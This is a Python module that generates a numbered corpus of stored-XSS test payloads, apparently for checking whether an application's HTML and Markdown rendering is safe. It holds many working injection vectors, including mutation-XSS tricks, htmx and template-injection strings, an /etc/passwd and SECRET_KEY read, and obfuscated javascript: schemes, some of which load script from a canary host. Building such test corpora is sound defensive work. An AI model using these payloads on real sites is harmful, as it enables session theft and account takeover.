"""Stored-XSS payloads: well-known vectors, and those made from sinks, ways to hide a scheme, and wrappings.

Each calls `canary(n)`, opens a dialog or asks the host `CANARY` for something, if anything of it is ever
taken for markup. The number `n` is that of the payload, so that a hit can be told.
"""

import itertools
from collections.abc import Iterator

CANARY = "canary.invalid"
CODE = "canary({n})"

# Markup that runs at once, without anybody's click; {code} is JavaScript, {host} a stranger's.
AT_ONCE = """
<script>{code}</script>
<script src=//{host}/{n}></script>
<script type=module>{code}</script>
<script/src=//{host}/{n}>
<ScRiPt>{code}</sCrIpT>
<scr<script>ipt>{code}</scr</script>ipt>
<<script>{code}//<</script>
<script x>{code}</script x>
<script>{code}//
</script><script>{code}</script>
"><script>{code}</script>
'><script>{code}</script>
--><script>{code}</script>
]]><script>{code}</script>
</textarea><script>{code}</script>
</title><script>{code}</script>
</style><script>{code}</script>
</template><script>{code}</script>
</option></select><script>{code}</script>
<img src=x onerror={code}>
<img src=x onerror="{code}">
<img src=x onerror='{code}'>
<img src=x onerror=`{code}`>
<img/src=x/onerror={code}>
<img src=x:x onerror={code}//
<img src onerror={code}>
<IMG SRC=x ONERROR={code}>
<img srcset=x onerror={code}>
<img src=//{host}/{n}>
<img src="data:x" onerror={code}>
"><img src=x onerror={code}>
' onerror={code} src=x '
" autofocus onfocus={code} x="
' autofocus onfocus={code} x='
" onmouseover={code} style="position:fixed;inset:0" x="
<image src=x onerror={code}>
<svg onload={code}>
<svg/onload={code}>
<svg><script>{code}</script></svg>
<svg><script href=//{host}/{n} /></svg>
<svg><animate onbegin={code} attributeName=x dur=1s></svg>
<svg><set onbegin={code} attributeName=x to=0></svg>
<svg><image href=//{host}/{n} /></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x" /></svg>
<svg><foreignObject><img src=x onerror={code}></foreignObject></svg>
<svg><style><img src=x onerror={code}></style></svg>
<svg></p><style><a id="</style><img src=x onerror={code}>">
<math><mtext><table><mglyph><style><img src=x onerror={code}></style></mglyph></table></mtext></math>
<math><mi//xlink:href="data:x,<script>{code}</script>">
<math><annotation-xml encoding="text/html"><img src=x onerror={code}></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={code}>
<noscript><p title="</noscript><img src=x onerror={code}>">
<xmp><p title="</xmp><img src=x onerror={code}>">
<noembed><img title="</noembed><img src=x onerror={code}>"></noembed>
<plaintext><img src=x onerror={code}>
<listing>&lt;img src=x onerror={code}&gt;</listing>
<body onload={code}>
<body onpageshow={code}>
<html onclick={code}>
<iframe src="javascript:parent.{code}"></iframe>
<iframe srcdoc="<script>parent.{code}</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.{code}&lt;/script&gt;"></iframe>
<iframe src=//{host}/{n}></iframe>
<iframe onload={code}></iframe>
<frameset onload={code}><frame></frameset>
<object data="javascript:{code}"></object>
<object data=//{host}/{n}></object>
<embed src="javascript:{code}">
<embed src=//{host}/{n}>
<applet code=//{host}/{n}></applet>
<video><source onerror={code}></video>
<video src=x onerror={code}></video>
<video poster=//{host}/{n}></video>
<audio src=x onerror={code}></audio>
<details open ontoggle={code}><summary>x</summary></details>
<marquee onstart={code}>x</marquee>
<input autofocus onfocus={code}>
<select autofocus onfocus={code}></select>
<textarea autofocus onfocus={code}></textarea>
<button popovertarget=x autofocus onfocus={code}>x</button>
<input type=image src=x onerror={code}>
<input type=image src=//{host}/{n}>
<keygen autofocus onfocus={code}>
<link rel=stylesheet href=//{host}/{n}>
<link rel=preload as=script href=//{host}/{n}>
<link rel=dns-prefetch href=//{host}>
<style>@import url(//{host}/{n});</style>
<style>body{{background:url(//{host}/{n})}}</style>
<style onload={code}></style>
<p style="background:url(//{host}/{n})">x</p>
<p style="animation-name:x" onanimationstart={code}>x</p>
<div style="width:expression({code})">x</div>
<base href=//{host}/>
<meta http-equiv=refresh content="0;url=//{host}/{n}">
<meta http-equiv=refresh content="0;url=javascript:{code}">
<meta http-equiv=set-cookie content="x=y">
<table background=//{host}/{n}><tr><td>x</td></tr></table>
<td background=//{host}/{n}>
<template shadowrootmode=open><img src=x onerror={code}></template>
<portal src=//{host}/{n}></portal>
<x contenteditable autofocus onfocus={code}>x</x>
<x tabindex=1 autofocus onfocus={code}>x</x>
<custom-element onconnected={code}></custom-element>
<a href=//{host}/{n} ping=//{host}/{n}>x</a>
<div hx-get="//{host}/{n}" hx-trigger="load">x</div>
<div data-hx-get="//{host}/{n}" data-hx-trigger="load">x</div>
<div hx-get="/sign-out" hx-trigger="load">x</div>
<div hx-post="/preferences" hx-trigger="load" hx-vals='js:{{a: {code}}}'>x</div>
<div hx-on::load="{code}" hx-get="/" hx-trigger="load">x</div>
<div hx-on:htmx:load="{code}">x</div>
<div data-hx-on:htmx:load="{code}">x</div>
<div hx-trigger="load[{code}]" hx-get="/">x</div>
<div hx-vars="a:{code}" hx-get="/" hx-trigger="load">x</div>
<div hx-ext="ws" ws-connect="//{host}/{n}">x</div>
<div hx-swap-oob="true" id="toasts"><img src=x onerror={code}></div>
<template><tr hx-swap-oob="true" id="main"><td><img src=x onerror={code}></td></tr></template>
<div x-data x-init="{code}">x</div>
<div x-data="{{a: {code}}}">x</div>
<div x-html="'<img src=x onerror={code}>'" x-data>x</div>
<div ng-app>{{{{constructor.constructor('{code}')()}}}}</div>
<!--><img src=x onerror={code}>-->
<!--!><img src=x onerror={code}>-->
<!-- --!><img src=x onerror={code}>
<![CDATA[<img src=x onerror={code}>]]>
<?xml-stylesheet href="javascript:{code}"?>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror={code}>">]>&y;
&lt;img src=x onerror={code}&gt;
&#60;img src=x onerror={code}&#62;
&#x3c;script&#x3e;{code}&#x3c;/script&#x3e;
%3Cscript%3E{code}%3C/script%3E
\\x3cscript\\x3e{code}\\x3c/script\\x3e
\\u003cimg src=x onerror={code}\\u003e
＜script＞{code}＜/script＞
<img src=x o\u200bnerror={code}>
\u202e<script>{code}</script>
<scr\u0131pt>{code}</scr\u0131pt>
<\u017fcript>{code}</\u017fcript>
<img\u00a0src=x onerror={code}>
<img\u000csrc=x\u000conerror={code}>
"}};{code};//
';{code};//
`;{code};//
\\";{code};//
</script><img src=x onerror={code}>
{{{{{code}}}}}
{{% {code} %}}
{{% include "/etc/passwd" %}}{{{{ settings.SECRET_KEY }}}}
${{{code}}}
#{{{code}}}
<%= {code} %>
[[{code}]]
{{"type":"llm.delta","data":{{"text":"<img src=x onerror={code}>"}}}}
data: <script>{code}</script>
""".strip().split("\n")

# Markdown and HTML around an address; {url} is it.
LINK_FORMS = (
    "[x]({url})",
    "[x](<{url}>)",
    '[x]({url} "t")',
    "[x][r{n}]\n\n[r{n}]: {url}",
    "![x]({url})",
    "![x][i{n}]\n\n[i{n}]: {url}",
    "<{url}>",
    '<a href="{url}">x</a>',
    "| a |\n|---|\n| [x]({url}) |",
    "- [x]({url})",
    "> [x]({url})",
    "[![x]({url})]({url})",
    "# [x]({url})",
    "**[x]({url})**",
    "{url}",
    '<form action="{url}"><button autofocus>x</button></form>',
    '<button formaction="{url}">x</button>',
    '<svg><a href="{url}"><text y=9>x</text></a></svg>',
    '<iframe src="{url}"></iframe>',
)

SCHEMES = (
    "javascript:{code}",
    "JaVaScRiPt:{code}",
    "java\tscript:{code}",
    "java&#10;script:{code}",
    "java&Tab;script:{code}",
    "&#106;avascript:{code}",
    "&#x6A;avascript&colon;{code}",
    "javascript&#58;{code}",
    "\x01javascript:{code}",
    " javascript:{code}",
    "javascript://x%0a{code}",
    "javascript:/*--></title></style></script>*/{code}",
    "jav\u00adascript:{code}",
    "vbscript:{code}",
    "data:text/html,<script>{code}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={code}>",
    "blob:null/x",
    "//{host}/{n}",
    "feed:javascript:{code}",
    "view-source:javascript:{code}",
)

# What attributes of Markdown may be broken out of.
BREAKOUTS = """
[x](http://a.example/"onmouseover={code}//)
[x](http://a.example/ "t\\" autofocus onfocus={code} x=\\"")
[x](http://a.example/'onfocus={code}//)
![x" onerror={code} y="](http://a.example/x)
![<img src=x onerror={code}>](x)
[<img src=x onerror={code}>](http://a.example/)
[x](http://a.example/<img src=x onerror={code}>)
```html
<script>{code}</script>
```
```"><img src=x onerror={code}>
x
```
~~~<script>{code}</script>
x
~~~
`<img src=x onerror={code}>`
``<img src=x onerror={code}>``
    <script>{code}</script>
| <img src=x onerror={code}> | b |
|---|---|
| <script>{code}</script> | `<img src=x onerror={code}>` |
<div>

<script>{code}</script>

</div>
1. <script>{code}</script>
> <script>{code}</script>
# <script>{code}</script>
\\<script>{code}</script>
*<script>{code}</script>*
~~<img src=x onerror={code}>~~
&lt;script&gt;{code}&lt;/script&gt;
<http://a.example/"onclick={code}>
<a@b.example"onclick={code}>
http://a.example/<script>{code}</script>
[^1]: <img src=x onerror={code}>
$$<img src=x onerror={code}>$$
```mermaid
click A call {code}
```
"""


def payloads() -> list[str]:
    """Every payload; `n` in it is its index."""
    return list(_filled())


def _filled() -> Iterator[str]:
    numbers = itertools.count()

    def fill(form: str) -> str:
        n = next(numbers)
        return form.format(code=CODE.format(n=n), host=CANARY, n=n)

    for form in AT_ONCE:
        yield fill(form)
    for form in _blocks(BREAKOUTS):
        yield fill(form)
    for scheme in SCHEMES:
        for form in LINK_FORMS:
            yield fill(form.replace("{url}", scheme))


def _blocks(text: str) -> Iterator[str]:
    """Lines, with fences, tables and what has an empty line inside kept together."""
    lines = text.strip("\n").split("\n")
    while lines:
        line = lines.pop(0)
        if line.startswith(("```", "~~~")):
            end = next(at for at, other in enumerate(lines) if other.startswith(line[:3]))
            block, lines = [line, *lines[: end + 1]], lines[end + 1 :]
            yield "\n".join(block)
        elif line.startswith("| "):
            block, lines = [line, *lines[:2]], lines[2:]
            yield "\n".join(block)
        elif line == "<div>":
            block, lines = [line, *lines[:4]], lines[4:]
            yield "\n".join(block)
        else:
            yield line
